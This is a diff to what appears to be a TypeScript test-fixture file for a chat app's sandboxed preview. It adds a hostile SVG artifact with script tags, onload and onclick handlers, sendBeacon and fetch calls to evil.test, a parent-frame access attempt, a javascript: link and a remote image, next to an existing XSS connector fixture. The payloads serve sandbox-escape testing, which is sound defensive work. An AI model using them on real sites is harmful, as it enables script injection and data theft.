@@ -119,3 +119,17 @@ export const HOSTILE_CONNECTOR = {
   integration: `Pastebin <img src=x onerror=window.__xss=1> "connector"`,
   url: "javascript:window.__xss=1//https://mcp.evil.test/mcp",
 } as const;
+
+/**
+ * The preview corpus chat's SVG artifact: a script, event handlers, a javascript: link and a remote
+ * image, each of which must stay source text on the app origin and reach nothing from the sandbox.
+ */
+export const SCRIPTED_SVG_ARTIFACT = [
+  `<svg xmlns="http://www.w3.org/2000/svg" width="160" height="80" viewBox="0 0 160 80" onload="window.__xss=1;navigator.sendBeacon('https://evil.test/svg-onload')">`,
+  `<script>window.__xss=1;try{parent.__xss=1}catch(e){}fetch("https://evil.test/svg-artifact").catch(()=>{});document.documentElement.setAttribute("data-ran-in",String(self.origin))</script>`,
+  `<rect width="160" height="80" rx="12" fill="#1e3a8a" onclick="window.__xss=1" onmouseover="window.__xss=1"/>`,
+  `<a href="javascript:window.__xss=1"><text x="80" y="48" font-size="20" text-anchor="middle" fill="#fff">Approved</text></a>`,
+  `<image href="https://evil.test/svg-image.png" width="1" height="1"/>`,
+  `</svg>`,
+  "",
+].join("\n");
